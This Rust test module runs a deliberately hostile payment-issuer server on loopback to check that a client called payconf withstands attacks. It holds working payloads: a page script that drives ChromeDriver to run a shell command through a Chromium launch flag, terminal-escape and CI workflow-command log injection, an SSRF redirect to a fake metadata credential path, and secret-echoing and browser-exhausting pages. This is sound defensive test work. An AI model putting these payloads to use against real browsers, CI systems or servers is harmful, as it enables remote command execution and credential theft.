//! A hostile target: the reference implementation behind a front that
//! carries one attack at a time ([`Attack`]), each a switch. Everything else
//! the front passes through, so the target conforms but for its attack, and
//! a test can tell what the attack changed.
//!
//! The attacks are those a server payconf does not control can make: take
//! over the browser through ChromeDriver, write escape sequences and CI
//! workflow commands into the log, stall the parser with a page nested
//! without end, send the buyer to a private address and hope its answer is
//! published, echo the secrets it was sent in other encodings, eat the
//! browser's memory, hang the browser, and keep windows alive after their
//! journey. Every listener is on loopback.

use std::{
    convert::Infallible,
    path::PathBuf,
    sync::{Arc, Mutex},
    time::Instant,
};

use base64::Engine as _;
use bytes::Bytes;
use http_body_util::{BodyExt, Full};
use hyper::{Request, Response, body::Incoming, service::service_fn};
use hyper_util::rt::TokioIo;
use payconf_reference::{ReferenceConfig, RunningServer};
use serde_json::{Value, json};
use tokio::net::TcpListener;
use url::Url;

/// One attack of the hostile target.
#[derive(Clone, Debug, PartialEq, Eq)]
pub enum Attack {
    /// The issuer page's script POSTs new WebDriver sessions, as
    /// `text/plain` (no CORS preflight), to every port ChromeDriver listens
    /// on (read from `/proc`: what a scan of loopback finds), with a
    /// Chromium flag that runs a shell command touching `marker`. The form
    /// shows once every attempt is done, and its confirming click opens a
    /// popup that pings the front for as long as it lives.
    BrowserTakeover { marker: PathBuf },
    /// Create answers a body that is not JSON, full of escape sequences, a
    /// bare `\r` before a forged verdict, and CI workflow commands; its
    /// media type carries one too.
    LogInjection,
    /// The issuer page is about 1 MB of unclosed `<div>`.
    EndlessNesting,
    /// The issuer page redirects to another loopback address standing in
    /// for a cloud metadata service, which answers credentials.
    PrivateAddress,
    /// Submit's answer echoes the API key, the card number and the CVV it
    /// was sent, re-encoded: URL-encoded, hexadecimal, as HTML character
    /// references, base64, in a Basic credential,
    /// grouped with spaces and dashes, after the words and under the keys
    /// people use for a CVV, in a header named for it.
    EncodedEcho,
    /// The issuer page's script allocates memory without yielding until
    /// something stops it.
    MemoryHog,
    /// The issuer page's script never yields.
    Stall,
}

/// What the credentials of the stand-in metadata service are.
pub const PLANTED_CREDENTIAL: &str = "AKIAPLANTEDMETADATA7Q";

/// What the front saw.
#[derive(Debug, Default)]
pub struct Seen {
    /// What the takeover script reported of its attempts.
    pub reports: Mutex<Vec<String>>,
    /// Pings of popups: (the journey that opened it, when).
    pub pings: Mutex<Vec<(String, Instant)>>,
    /// When each journey's issuer page was served, by journey.
    pub issuer_pages: Mutex<Vec<(String, Instant)>>,
}

/// The hostile target, running.
pub struct HostileTarget {
    /// Where payconf is pointed.
    pub base: Url,
    /// What the front saw.
    pub seen: Arc<Seen>,
    _reference: RunningServer,
}

struct Front {
    attack: Attack,
    reference: Url,
    metadata: Option<Url>,
    client: reqwest::Client,
    seen: Arc<Seen>,
}

impl HostileTarget {
    /// Starts the reference implementation behind a front carrying `attack`.
    pub async fn start(attack: Attack) -> Self {
        Self::start_with(attack, ReferenceConfig::default()).await
    }

    /// [`Self::start`] with the reference implementation configured so.
    pub async fn start_with(attack: Attack, mut config: ReferenceConfig) -> Self {
        let listener = TcpListener::bind("127.0.0.1:0").await.expect("front binds");
        let base = Url::parse(&format!(
            "http://{}/",
            listener.local_addr().expect("address")
        ))
        .expect("url");
        // The service's pages are addressed through the front.
        config.public_url = Some(base.clone());
        // Bound here, so the front knows where the service really listens.
        let inner = TcpListener::bind("127.0.0.1:0")
            .await
            .expect("reference binds");
        let inner_url =
            Url::parse(&format!("http://{}/", inner.local_addr().expect("address"))).expect("url");
        let reference = RunningServer::start_on(inner, config).expect("reference starts");
        let metadata = match attack {
            Attack::PrivateAddress => Some(serve_metadata().await),
            _ => None,
        };
        let seen = Arc::new(Seen::default());
        let front = Arc::new(Front {
            attack,
            reference: inner_url,
            metadata,
            client: reqwest::Client::builder()
                .redirect(reqwest::redirect::Policy::none())
                .no_proxy()
                .build()
                .expect("client"),
            seen: Arc::clone(&seen),
        });
        tokio::spawn(async move {
            while let Ok((stream, _)) = listener.accept().await {
                let front = Arc::clone(&front);
                tokio::spawn(async move {
                    let service = service_fn(move |request| {
                        let front = Arc::clone(&front);
                        async move { Ok::<_, Infallible>(front.answer(request).await) }
                    });
                    let _ = hyper::server::conn::http1::Builder::new()
                        .serve_connection(TokioIo::new(stream), service)
                        .await;
                });
            }
        });
        Self {
            base,
            seen,
            _reference: reference,
        }
    }
}

type Answer = Response<Full<Bytes>>;

fn respond(status: u16, headers: &[(&str, &str)], body: impl Into<Bytes>) -> Answer {
    let mut response = Response::builder().status(status);
    for (name, value) in headers {
        response = response.header(*name, *value);
    }
    response
        .body(Full::new(body.into()))
        .expect("a valid response")
}

impl Front {
    async fn answer(&self, request: Request<Incoming>) -> Answer {
        let path = request.uri().path().to_owned();
        let query = request.uri().query().unwrap_or("").to_owned();
        let journey = query
            .split('&')
            .find_map(|pair| pair.strip_prefix("paymentToken="))
            .unwrap_or("")
            .to_owned();
        match (&self.attack, path.as_str()) {
            (_, "/hostile/report") => {
                let body = request.into_body().collect().await.map(|b| b.to_bytes());
                let text = String::from_utf8_lossy(&body.unwrap_or_default()).into_owned();
                self.seen.reports.lock().expect("lock").push(text);
                return respond(204, &[], "");
            }
            (_, "/hostile/popup") => return respond(200, &[("content-type", "text/html")], POPUP),
            (_, "/hostile/alive") => {
                self.seen
                    .pings
                    .lock()
                    .expect("lock")
                    .push((query.clone(), Instant::now()));
                return respond(204, &[], "");
            }
            (Attack::LogInjection, "/api/v1/payment/create/") => {
                return respond(
                    200,
                    &[(
                        "content-type",
                        "text/plain; note=##[error]forged-media-type",
                    )],
                    LOG_INJECTION,
                );
            }
            (Attack::EndlessNesting, "/acs/authenticate") => {
                let mut page = String::from("<!doctype html><html><body>");
                while page.len() < 1_040_000 {
                    page.push_str("<div>");
                }
                return respond(200, &[("content-type", "text/html")], page);
            }
            (Attack::PrivateAddress, "/acs/authenticate") => {
                let metadata = self.metadata.as_ref().expect("started with the attack");
                let to = metadata
                    .join("latest/meta-data/iam/security-credentials/payconf")
                    .expect("url");
                return respond(302, &[("location", to.as_str())], "");
            }
            _ => {}
        }
        let sent = self.forward(request).await;
        match (&self.attack, path.as_str()) {
            (
                Attack::BrowserTakeover { .. } | Attack::MemoryHog | Attack::Stall,
                "/acs/authenticate",
            ) if !journey.is_empty() && !query.contains("view=") => {
                self.seen
                    .issuer_pages
                    .lock()
                    .expect("lock")
                    .push((journey.clone(), Instant::now()));
                self.with_script(sent.1, &journey)
            }
            (Attack::EncodedEcho, "/api/v1/payment/submit/") => echo(sent),
            _ => sent.1,
        }
    }

    /// Passes the request to the reference implementation; keeps what it
    /// was sent for the attacks that echo it.
    async fn forward(&self, request: Request<Incoming>) -> (Sent, Answer) {
        let (parts, body) = request.into_parts();
        let body = body
            .collect()
            .await
            .map(|b| b.to_bytes())
            .unwrap_or_default();
        let path = parts
            .uri
            .path_and_query()
            .map_or("/", |p| p.as_str())
            .trim_start_matches('/');
        let url = self.reference.join(path).expect("url");
        let mut forwarded = self.client.request(parts.method.clone(), url);
        for (name, value) in &parts.headers {
            if name != "host" && name != "content-length" {
                forwarded = forwarded.header(name, value);
            }
        }
        let sent = Sent {
            authorization: parts
                .headers
                .get("authorization")
                .and_then(|v| v.to_str().ok())
                .map(str::to_owned),
            body: serde_json::from_slice(&body).unwrap_or(Value::Null),
        };
        let answer = match forwarded.body(body).send().await {
            Ok(response) => {
                let status = response.status().as_u16();
                let headers: Vec<(String, String)> = response
                    .headers()
                    .iter()
                    .filter(|(n, _)| {
                        !matches!(
                            n.as_str(),
                            "content-length"
                                | "transfer-encoding"
                                | "connection"
                                | "content-security-policy"
                        )
                    })
                    .map(|(n, v)| (n.to_string(), v.to_str().unwrap_or("").to_owned()))
                    .collect();
                let body = response.bytes().await.unwrap_or_default();
                let pairs: Vec<(&str, &str)> = headers
                    .iter()
                    .map(|(n, v)| (n.as_str(), v.as_str()))
                    .collect();
                respond(status, &pairs, body)
            }
            Err(e) => respond(502, &[], e.to_string()),
        };
        (sent, answer)
    }

    /// The issuer page with the attack's script in it.
    fn with_script(&self, page: Answer, journey: &str) -> Answer {
        let (parts, body) = page.into_parts();
        let html = futures_util::FutureExt::now_or_never(body.collect())
            .and_then(Result::ok)
            .map(|b| String::from_utf8_lossy(&b.to_bytes()).into_owned())
            .unwrap_or_default();
        let script = match &self.attack {
            Attack::BrowserTakeover { marker } => takeover_script(marker, journey),
            Attack::MemoryHog => MEMORY_HOG.to_owned(),
            Attack::Stall => "<script>for (;;) {}</script>".to_owned(),
            _ => String::new(),
        };
        let html = match html.rfind("</body>") {
            Some(at) => format!("{}{script}{}", &html[..at], &html[at..]),
            None => format!("{html}{script}"),
        };
        Response::from_parts(parts, Full::new(Bytes::from(html)))
    }
}

/// What the merchant's server sent to the front.
struct Sent {
    authorization: Option<String>,
    body: Value,
}

/// Submit's answer with what it was sent echoed in other encodings.
fn echo((sent, answer): (Sent, Answer)) -> Answer {
    let (mut parts, body) = answer.into_parts();
    let bytes = futures_util::FutureExt::now_or_never(body.collect())
        .and_then(Result::ok)
        .map(|b| b.to_bytes())
        .unwrap_or_default();
    let Ok(mut json) = serde_json::from_slice::<Value>(&bytes) else {
        return Response::from_parts(parts, Full::new(bytes));
    };
    let key = sent
        .authorization
        .as_deref()
        .and_then(|a| a.split_once(' '))
        .map(|(_, key)| key.to_owned())
        .unwrap_or_default();
    let card = &sent.body["paymentTypeDetails"]["creditcard"];
    let number = card["number"].as_str().unwrap_or_default().to_owned();
    let cvv = card["CVV"].as_str().unwrap_or_default().to_owned();
    let grouped = |sep: &str| grouped(&number, sep);
    let b64 = |text: &str| base64::engine::general_purpose::STANDARD.encode(text);
    let url_encoded: String = url::form_urlencoded::byte_serialize(key.as_bytes()).collect();
    let echo = json!({
        "key_url": url_encoded,
        "key_base64": b64(&key),
        "key_hex": key.bytes().map(|b| format!("{b:02x}")).collect::<String>(),
        "key_entities": key.chars().map(|c| format!("&#{};", u32::from(c))).collect::<String>(),
        "credential": format!("Basic {}", b64(&format!("shop:{key}"))),
        "card_spaces": grouped(" "),
        "card_dashes": grouped("-"),
        "card_base64": b64(&number),
        "note": format!("CVV {cvv} checked; cvv={cvv}"),
        "cvc_code": cvv,
        "cvn": cvv,
        "card_security_code": cvv,
    });
    if let Some(payload) = json.get_mut("payload").and_then(Value::as_object_mut) {
        payload.insert("echo".to_owned(), echo);
    }
    if let Ok(value) = http::HeaderValue::from_str(&cvv) {
        parts.headers.insert("cvn", value);
    }
    if let Ok(value) = http::HeaderValue::from_str(&format!("Basic {}", b64(&format!("m:{key}")))) {
        parts.headers.insert("x-echo-authorization", value);
    }
    parts.headers.remove("content-length");
    Response::from_parts(parts, Full::new(Bytes::from(json.to_string())))
}

/// A card number in groups of four digits, as people write it.
pub fn grouped(number: &str, separator: &str) -> String {
    number
        .as_bytes()
        .chunks(4)
        .map(|c| String::from_utf8_lossy(c).into_owned())
        .collect::<Vec<_>>()
        .join(separator)
}

/// A stand-in for a cloud metadata service, on another loopback address.
async fn serve_metadata() -> Url {
    let listener = match TcpListener::bind("127.0.0.2:0").await {
        Ok(listener) => listener,
        Err(_) => TcpListener::bind("127.0.0.1:0").await.expect("binds"),
    };
    let address = listener.local_addr().expect("address");
    tokio::spawn(async move {
        while let Ok((stream, _)) = listener.accept().await {
            tokio::spawn(async move {
                let service = service_fn(|_: Request<Incoming>| async {
                    Ok::<_, Infallible>(respond(
                        200,
                        &[("content-type", "application/json")],
                        json!({
                            "Code": "Success",
                            "AccessKeyId": PLANTED_CREDENTIAL,
                            "SecretAccessKey": "planted/secret+access=key",
                        })
                        .to_string(),
                    ))
                });
                let _ = hyper::server::conn::http1::Builder::new()
                    .serve_connection(TokioIo::new(stream), service)
                    .await;
            });
        }
    });
    Url::parse(&format!("http://{address}/")).expect("url")
}

/// The ports ChromeDriver processes listen on, read from `/proc`: what a
/// page scanning loopback finds, without the seconds a scan takes.
pub fn chromedriver_ports() -> Vec<u16> {
    let mut inodes = Vec::new();
    for entry in std::fs::read_dir("/proc").into_iter().flatten().flatten() {
        let dir = entry.path();
        let is_driver = std::fs::read_to_string(dir.join("comm"))
            .is_ok_and(|comm| comm.trim() == "chromedriver");
        if !is_driver {
            continue;
        }
        for fd in std::fs::read_dir(dir.join("fd"))
            .into_iter()
            .flatten()
            .flatten()
        {
            if let Ok(link) = std::fs::read_link(fd.path()) {
                let link = link.display().to_string();
                if let Some(inode) = link
                    .strip_prefix("socket:[")
                    .and_then(|s| s.strip_suffix(']'))
                {
                    inodes.push(inode.to_owned());
                }
            }
        }
    }
    let mut ports = Vec::new();
    for table in ["/proc/net/tcp", "/proc/net/tcp6"] {
        let Ok(text) = std::fs::read_to_string(table) else {
            continue;
        };
        for line in text.lines().skip(1) {
            let fields: Vec<&str> = line.split_whitespace().collect();
            // local address, state 0A (listen), inode.
            if fields.len() > 9 && fields[3] == "0A" && inodes.iter().any(|i| i == fields[9]) {
                if let Some(port) = fields[1]
                    .rsplit(':')
                    .next()
                    .and_then(|hex| u16::from_str_radix(hex, 16).ok())
                {
                    ports.push(port);
                }
            }
        }
    }
    ports.sort_unstable();
    ports.dedup();
    ports
}

/// The takeover: hide the form, try every ChromeDriver port, report, show
/// the form; the confirming click opens a popup that pings.
fn takeover_script(marker: &std::path::Path, journey: &str) -> String {
    let chromium = ["/usr/bin/chromium", "/usr/bin/chromium-browser"]
        .into_iter()
        .find(|p| std::path::Path::new(p).exists())
        .unwrap_or("chromium");
    let capabilities = json!({"capabilities": {"alwaysMatch": {"goog:chromeOptions": {
        "binary": chromium,
        "args": [
            "--headless",
            "--no-sandbox",
            // Chromium splits the prefix on spaces, so the command has none.
            format!("--renderer-cmd-prefix=/bin/sh -c touch${{IFS}}{}", marker.display()),
        ],
    }}}});
    format!(
        r#"<script>
(async () => {{
  const forms = [...document.querySelectorAll('form')];
  const holder = document.body;
  for (const form of forms) form.remove();
  const ports = {ports};
  const body = JSON.stringify({capabilities});
  const tries = [];
  for (const port of ports) for (const path of ['/session', '/wd/hub/session', '/status']) {{
    const url = 'http://127.0.0.1:' + port + path;
    tries.push(fetch(url, {{method: 'POST', mode: 'no-cors', headers: {{'Content-Type': 'text/plain'}}, body}})
      .then(() => 'sent ' + url, () => 'refused ' + url));
    tries.push(fetch(url, {{method: 'POST', headers: {{'Content-Type': 'text/plain'}}, body}})
      .then(r => r.text().then(t => 'read ' + url + ' ' + r.status + ' ' + t.slice(0, 300)), () => 'unreadable ' + url));
  }}
  const results = await Promise.all(tries);
  await fetch('/hostile/report', {{method: 'POST', body: JSON.stringify({{ports, results}})}});
  for (const form of forms) {{
    holder.appendChild(form);
    for (const button of form.querySelectorAll('button, input[type=submit]')) {{
      button.addEventListener('click', () => window.open('/hostile/popup?journey={journey}', '_blank'));
    }}
  }}
}})();
</script>"#,
        ports = json!(chromedriver_ports()),
    )
}

/// A popup that pings the front for as long as it lives.
const POPUP: &str = r#"<!doctype html><title>popup</title><script>
const journey = new URLSearchParams(location.search).get('journey');
setInterval(() => fetch('/hostile/alive?' + journey).catch(() => {}), 100);
</script><p>still here</p>"#;

/// Allocates and touches memory without ever yielding, until stopped: the
/// page answers no command while it runs.
const MEMORY_HOG: &str = r#"<script>
window.hoard = [];
for (;;) { const block = new Uint8Array(16 * 1024 * 1024); block.fill(7); window.hoard.push(block); }
</script>"#;

/// A body that would rewrite a terminal and command a CI system.
const LOG_INJECTION: &str = "\u{1b}]52;c;cGF5Y29uZg==\u{7}\u{1b}[2J\u{1b}]0;pwned\u{7}\
    \rresult: PASSED, every selected scenario passed (exit code 0)\n\
    ::error::forged annotation\n  ::add-mask::payconf\n::stop-commands::resume\n\
    text ##[error]forged in a line\n\u{9b}31m\u{202e}reversed";

/// Serves these pages (path, HTML) on a loopback port of its own: an origin
/// for tests that need one page, or two origins side by side.
pub async fn serve_pages(pages: Vec<(&'static str, String)>) -> Url {
    let listener = TcpListener::bind("127.0.0.1:0").await.expect("binds");
    let address = listener.local_addr().expect("address");
    let pages = Arc::new(pages);
    tokio::spawn(async move {
        while let Ok((stream, _)) = listener.accept().await {
            let pages = Arc::clone(&pages);
            tokio::spawn(async move {
                let service = service_fn(move |request: Request<Incoming>| {
                    let page = pages
                        .iter()
                        .find(|(path, _)| *path == request.uri().path())
                        .map(|(_, html)| html.clone());
                    async move {
                        Ok::<_, Infallible>(match page {
                            Some(html) => respond(200, &[("content-type", "text/html")], html),
                            None => respond(404, &[], ""),
                        })
                    }
                });
                let _ = hyper::server::conn::http1::Builder::new()
                    .serve_connection(TokioIo::new(stream), service)
                    .await;
            });
        }
    });
    Url::parse(&format!("http://{address}/")).expect("url")
}
